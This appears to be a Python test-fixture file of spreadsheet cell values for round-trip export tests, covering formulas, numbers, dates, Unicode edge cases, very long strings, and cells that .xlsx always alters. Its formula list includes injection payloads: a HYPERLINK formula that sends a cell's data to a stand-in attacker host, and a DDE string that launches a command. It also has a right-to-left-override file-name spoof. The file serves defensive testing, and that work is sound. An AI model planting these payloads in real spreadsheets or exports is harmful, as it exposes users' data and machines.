"""Cells that spreadsheets tend to change, and the few that they always change."""

# The most UTF-16 code units that a cell of an .xlsx may have.
LARGEST = 32767

FORMULAS = [
    "=1+1", '=HYPERLINK("http://evil.example/?"&A1,"look")', "=cmd|' /C calc'!A0", "=SUM(A1:A2)\nmore",
    "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "=", "+", "-", "@", "--", "-5", "+49 30 1234", "@ada",
    "'=1+1", "''=1+1", "'quoted", "'", "''", "'007", "  =1+1", "\u00a0=1+1", "＝1+1", "−1", "{=1+1}",
    "a,=1+1", 'a",=1+1', "a\n=1+1", "DDE", "=#REF!", "#N/A", "#REF!"]

NUMBERS = [
    "007", "0001.10", "12345678901234567890", "0.1234567890123456789", "1E5", "1e400", "0x1F", "1,234.5",
    "1.234,5", "50%", "$5", "R$ 5", "1 000", "١٢٣", "NaN", "Infinity", "½", "TRUE", "FALSE", "true", "wahr"]

DATES = [
    "2024-01-02", "2024-01-02T03:04:05Z", "1/2/2024", "1/2", "1.2.", "Mar-1", "1-2", "12:30", "2:30 PM", "24:00"]

WORDS = [
    'say "hi"', '"', '""', '","', ",", ";", "a;b;c", "a,b", "a;=1+1", "a\t=1+1", "sep=;", "\\", "\\n", "%s",
    "{{ 1 }}", "<b>&amp;</b>",
    " leading", "trailing ", "two  blanks", "\u00a0", "\u3000", "tab\there", "trailing tab\t",
    "two\nlines", "\nleading line", "trailing line\n", "\n", "a\n\n\nb", "NULL", "null", "undefined",
    "_x000D_", "_x0041_", "a_x000a_b", "Zoë Müller ß", "Zoe\u0308", "\u0308", "Ångström 日本語 ไทย",
    "🍳 👩‍👩‍👧‍👦 🏳️‍🌈 🇯🇵", "שלום – مرحبا", "\u202egpj.exe\u202c", "\u2066inside\u2069", "\u200b", "\u200f", "\ufeffmark",
    "a\u2028b\u2029c", "\u0001", "bell\u0007", "\u001b[31mred", "\u000b", "\u000c", "\u007f", "\u0085", "\ufffd", "\ufffe"]

LONG = ["n" * 10240, "long =1+1, “so”; " * 600, "two\nlines " * 1000, "😀" * 8000, "n" * LARGEST]

BLANK = ["", " ", "   "]

# These survive the round trip unchanged.
KEPT = FORMULAS + NUMBERS + DATES + WORDS + BLANK

# These do not, in any spreadsheet: name, before, after.
CHANGED = [
    ("line break CR LF", "two\r\nlines", "two\nlines"),
    ("line break CR", "two\rlines", "two\nlines"),
    ("line break CR at the end", "end\r", "end\n"),
    ("two line breaks CR", "a\r\rb", "a\n\nb"),
    ("line break LF CR", "a\n\rb", "a\nb"),
    # The guard goes before CR; before LF it becomes a typed apostrophe.
    ("line break CR at the start", "\r=1+1", "'\n=1+1"),
    # In an .xlsx, `_x0041_` is an A, and `_x005F_` escapes the underscore of a text that looks like this.
    ("an escape of the .xlsx format", "_x005F_x0041_", "_x0041_"),
    ("NUL", "nul\0end", "nulend"),
    ("one character too many", "n" * (LARGEST + 1), "n" * LARGEST),
    ("a surrogate pair at the end", "😀" * 16384, "😀" * 16383),
    ("far too long", "n" * 70000, "n" * LARGEST)]

# Names of the columns. Unknown ones are kept with their names.
COLUMNS = [
    "provider", "id", "title", "author", "author_url", "page_url", "image_url", "license", "tags", "note", "added_at",
    "Rating", "=1+1", "0012", "who; \"why\"", "two\nlines", "Rating", "שלום"]
